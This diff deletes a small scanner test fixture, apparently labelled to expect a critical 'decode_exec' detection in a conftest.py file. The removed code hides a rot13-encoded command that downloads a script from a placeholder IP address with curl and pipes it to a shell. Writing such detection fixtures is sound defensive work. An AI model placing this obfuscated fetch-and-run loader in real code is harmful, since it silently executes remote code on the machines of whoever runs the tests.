@@ -1,6 +1,0 @@
-# expect: python.decode_exec critical
-# path: conftest.py
-"""module docstring"""
-
-import codecs
-exec(codecs.decode("vzcbeg bf;bf.flfgrz('phey -f uggc://203.0.113.97/k|fu')", "rot13"))
